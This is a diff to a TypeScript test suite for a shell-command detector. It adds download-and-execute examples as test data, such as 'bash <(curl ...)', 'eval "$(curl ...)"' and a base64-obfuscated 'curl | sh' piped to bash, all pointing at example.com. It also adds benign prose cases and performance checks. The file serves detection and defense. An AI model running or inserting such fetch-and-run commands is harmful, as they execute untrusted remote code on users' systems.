@@ -23,6 +23,10 @@ const REMOTE: Record<string, string> = {
   'wscript //e:jscript \\\\files.example\\a\\b.txt': 'wscript',
   'wmic os get /format:"https://example.com/a.xsl"': 'wmic',
   'curl -fsSL https://example.com/install.sh | bash': 'curl',
+  '/bin/bash -c "$(curl -fsSL https://example.com/a)"': 'sh',
+  'bash <(curl -s http://example.com/a)': 'sh',
+  'eval "$(curl http://example.com/a)"': 'sh',
+  [`echo "${btoa('curl -s http://example.com/a | sh')}" | base64 -d | bash`]: 'sh',
 }
 const LOCAL: Record<string, string> = {
   'cmd /c calc': 'cmd',
@@ -46,6 +50,8 @@ const PROSE = [
   'The command finger is old.',
   'Reports can be found at https://example.com/powershell',
   'sh - a shell',
+  'To eval the result, open a shell.',
+  'base64 -d decodes a file',
   'PowerShell (a shell), "PowerShell" and PowerShell [1] are names.',
   '',
 ]
@@ -101,6 +107,8 @@ suite('command lines', () => {
       '^',
       ' ',
       'wmic ',
+      'bash <',
+      'abcdefgh|base64 ',
     ])
       findCommand(piece.repeat(32_768 / piece.length))
     assert.ok(process.cpuUsage(before).user < 3_000_000)
